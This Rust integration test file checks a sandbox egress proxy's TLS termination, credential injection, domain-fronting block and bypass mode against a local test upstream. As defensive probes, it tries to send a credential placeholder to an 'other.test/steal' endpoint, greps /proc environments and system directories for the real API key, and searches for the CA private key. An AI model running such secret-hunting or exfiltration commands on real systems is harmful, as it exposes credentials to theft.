//! TLS termination and credential injection, from inside a sandbox, against
//! an HTTPS upstream in the test world (its own test CA, which the egress
//! engine is told to trust through AIRLOCK_UPSTREAM_EXTRA_CA).

use crate::world::*;
use std::path::Path;
use std::process::{Child, Command, Stdio};

const REAL_KEY: &str = "real-provider-key-7f3a9c";

/// An HTTPS server on TLS_IP:443 in the outer namespace that logs each
/// request's host and x-api-key as JSON lines.
struct Upstream {
    child: Child,
    log: std::path::PathBuf,
    ca: std::path::PathBuf,
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn openssl(dir: &Path, args: &[&str]) {
    let out = Command::new("openssl")
        .args(args)
        .current_dir(dir)
        .output()
        .expect("openssl");
    assert!(
        out.status.success(),
        "openssl {args:?}: {}",
        text(&out.stderr)
    );
}

fn upstream(w: &World) -> Upstream {
    let dir = w.tmp.path().join("tls");
    std::fs::create_dir_all(&dir).unwrap();
    openssl(
        &dir,
        &[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
            "-subj",
            "/CN=airlock test upstream CA",
            "-days",
            "2",
        ],
    );
    openssl(
        &dir,
        &[
            "req",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            "leaf.key",
            "-out",
            "leaf.csr",
            "-subj",
            "/CN=api.test",
        ],
    );
    std::fs::write(
        dir.join("ext"),
        "subjectAltName=DNS:api.test,DNS:other.test,DNS:bypass.test\n",
    )
    .unwrap();
    openssl(
        &dir,
        &[
            "x509",
            "-req",
            "-in",
            "leaf.csr",
            "-CA",
            "ca.pem",
            "-CAkey",
            "ca.key",
            "-CAcreateserial",
            "-out",
            "leaf.pem",
            "-days",
            "2",
            "-extfile",
            "ext",
        ],
    );
    let log = dir.join("requests.jsonl");
    let script = format!(
        r#"
import http.server, ssl, json
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def handle_one(self):
        n = int(self.headers.get('content-length') or 0)
        body = self.rfile.read(n) if n else b''
        with open('{log}', 'a') as f:
            f.write(json.dumps({{'method': self.command, 'path': self.path, 'host': self.headers.get('host'),
                                 'key': self.headers.get('x-api-key'), 'auth': self.headers.get('authorization')}}) + '\n')
        out = ('tls hello from %s\n' % self.headers.get('host')).encode()
        self.send_response(200)
        self.send_header('content-length', str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = handle_one
    def log_message(self, *a): pass
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain('{leaf}', '{key}')
srv = http.server.ThreadingHTTPServer(('{ip}', 443), H)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print('READY', flush=True)
srv.serve_forever()
"#,
        log = log.display(),
        leaf = dir.join("leaf.pem").display(),
        key = dir.join("leaf.key").display(),
        ip = TLS_IP
    );
    let mut child = Command::new("ip")
        .args(["netns", "exec", &w.ns_out, "python3", "-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    use std::io::BufRead;
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), "READY", "upstream did not start");
    let ca = dir.join("ca.pem");
    w.extra_env.lock().unwrap().extend([
        (
            "AIRLOCK_UPSTREAM_EXTRA_CA".to_string(),
            ca.display().to_string(),
        ),
        ("TEST_PROVIDER_KEY".to_string(), REAL_KEY.to_string()),
    ]);
    std::fs::write(
        w.data.join("providers.json"),
        r#"{"providers":[{"name":"testprov","hosts":["api.test"],"header":"x-api-key","value_template":"{secret}","env":["TEST_PROVIDER_KEY"],"secret_name":"testprov"}]}"#,
    )
    .unwrap();
    Upstream { child, log, ca }
}

fn requests(u: &Upstream) -> Vec<serde_json::Value> {
    std::fs::read_to_string(&u.log)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn credentials_are_injected_on_the_host_and_never_enter_the_sandbox() {
    let w = World::new();
    std::fs::create_dir_all(&w.data).unwrap();
    let up = upstream(&w);
    let sb = w.sandbox("creds");
    // Inside, the variable holds a placeholder, never the key.
    let placeholder = text(&w.sh(&sb, "printf %s \"$TEST_PROVIDER_KEY\"").stdout);
    assert!(
        !placeholder.is_empty() && placeholder != REAL_KEY,
        "{placeholder}"
    );
    // curl through the proxy, trusting airlock's CA without flags.
    let out = w.sh(
        &sb,
        "curl -sS -m 10 https://api.test/v1/messages -H \"x-api-key: $TEST_PROVIDER_KEY\"",
    );
    assert!(
        text(&out.stdout).contains("tls hello from api.test"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let reqs = requests(&up);
    assert_eq!(reqs.len(), 1, "{reqs:?}");
    assert_eq!(
        reqs[0]["key"], REAL_KEY,
        "the upstream must receive the host's key"
    );
    // Node (ignores HTTP_PROXY: transparent path) and Python trust it too.
    let out = w.airlock(&["exec", &sb, "node", "-e",
        "fetch('https://api.test/node', {headers: {'x-api-key': process.env.TEST_PROVIDER_KEY}}).then(r => r.text()).then(t => console.log(t)).catch(e => console.log('ERROR', e.cause || e))"]);
    assert!(
        text(&out.stdout).contains("tls hello from api.test"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let out = w.sh(&sb, "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://api.test/py').read().decode())\"");
    assert!(
        text(&out.stdout).contains("tls hello from api.test"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    // A raw TLS client ignoring proxies: captured, terminated, trusted.
    let out = w.sh(
        &sb,
        "echo | timeout 10 openssl s_client -connect api.test:443 -servername api.test 2>&1",
    );
    assert!(
        text(&out.stdout).contains("Verify return code: 0 (ok)"),
        "{}",
        text(&out.stdout)
    );
    let out = w.sh(&sb, "git ls-remote https://api.test/repo.git 2>&1; true");
    assert!(
        !text(&out.stdout).contains("SSL certificate problem"),
        "{}",
        text(&out.stdout)
    );
    let reqs = requests(&up);
    assert!(
        reqs.iter()
            .filter(|r| r["path"] == "/node")
            .all(|r| r["key"] == REAL_KEY),
        "{reqs:?}"
    );
    // The placeholder sent to another (allowed) host is blocked, not sent.
    let before = requests(&up).len();
    let out = w.sh(&sb, "curl -sS -m 10 -o /dev/null -w '%{http_code}' https://other.test/steal -H \"authorization: Bearer $TEST_PROVIDER_KEY\"");
    assert_eq!(text(&out.stdout), "403");
    assert_eq!(
        requests(&up).len(),
        before,
        "placeholder reached another host"
    );
    // The real key is nowhere inside: environment, files, /proc.
    let out = w.sh(&sb, &format!("grep -rsl {REAL_KEY} /etc /root /tmp /run /proc/[0-9]*/environ 2>/dev/null | head -3; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -c {REAL_KEY}"));
    assert!(
        !text(&out.stdout).contains("/"),
        "key found inside: {}",
        text(&out.stdout)
    );
    // The CA private key is not reachable inside.
    let out = w.sh(
        &sb,
        "find / -xdev -name 'ca-key.pem' 2>/dev/null | head -1; ls /etc/airlock",
    );
    assert!(
        !text(&out.stdout).contains("ca-key"),
        "{}",
        text(&out.stdout)
    );
    // Events say a credential was injected, never its value.
    let evs = w.events(&sb);
    assert!(
        evs.iter().any(|e| e["host"] == "api.test"
            && e["reason"]
                .as_str()
                .unwrap()
                .contains("credential injected")),
        "{evs:#?}"
    );
    assert!(
        evs.iter()
            .any(|e| e["host"] == "other.test" && e["action"] == "block"),
        "{evs:#?}"
    );
    let audit = std::fs::read_to_string(w.data.join("audit.jsonl")).unwrap();
    assert!(
        !audit.contains(REAL_KEY) && !audit.contains(&placeholder),
        "secret in the audit log"
    );
    assert!(w.outer.hits().is_empty(), "leaked: {:?}", w.outer.hits());
}

#[test]
fn fronting_is_blocked_and_bypass_keeps_the_upstream_certificate() {
    let w = World::new();
    std::fs::create_dir_all(&w.data).unwrap();
    let up = upstream(&w);
    let sb = w.sandbox("front");
    // Host header naming another host than the SNI.
    let out = w.sh(
        &sb,
        "curl -sS -m 10 -o /dev/null -w '%{http_code}' https://api.test/x -H 'Host: other.test'",
    );
    let code = text(&out.stdout);
    assert!(
        code == "421" || code == "403",
        "fronting not blocked: {code}"
    );
    let evs = w.events(&sb);
    assert!(
        evs.iter()
            .any(|e| e["reason"].as_str().unwrap().contains("fronting")),
        "{evs:#?}"
    );
    assert!(
        requests(&up).iter().all(|r| r["path"] != "/x"),
        "fronted request reached upstream"
    );
    // Bypass: tunnelled, so the client sees the upstream's own certificate.
    std::fs::copy(&up.ca, w.ws.join("upstream-ca.pem")).unwrap();
    assert_ok(
        &w.airlock(&["network", "proxy", &sb, "--bypass-host", "bypass.test"]),
        "bypass",
    );
    let ws = w.ws.display().to_string();
    let out = w.sh(&sb, "curl -sS -m 10 https://bypass.test/b");
    assert_fails(&out, "bypass host verified with airlock's CA");
    let out = w.sh(
        &sb,
        &format!("curl -sS -m 10 --cacert {ws}/upstream-ca.pem https://bypass.test/b"),
    );
    assert!(
        text(&out.stdout).contains("tls hello from bypass.test"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let evs = w.events(&sb);
    assert!(
        evs.iter()
            .any(|e| e["host"] == "bypass.test" && e["action"] == "bypass"),
        "{evs:#?}"
    );
}
